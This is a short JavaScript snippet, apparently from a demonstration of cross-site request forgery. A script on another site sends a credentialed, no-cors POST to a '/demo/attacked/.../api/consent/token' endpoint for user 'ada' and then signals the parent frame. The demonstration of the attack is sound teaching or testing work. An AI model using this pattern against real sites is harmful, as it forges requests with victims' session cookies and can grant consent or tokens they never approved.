// What a script of another site can do: send, without reading the answer.
const query = new URLSearchParams(location.search);
fetch(`/demo/attacked/${query.get("stage")}/${query.get("side")}/api/consent/token${location.search}`, {
  method: "POST", mode: "no-cors", credentials: "include",
  headers: { "Content-Type": "text/plain" }, body: '{"org_user_id":"ada"}',
}).catch(() => {}).then(() => parent.postMessage("sent", "*"));
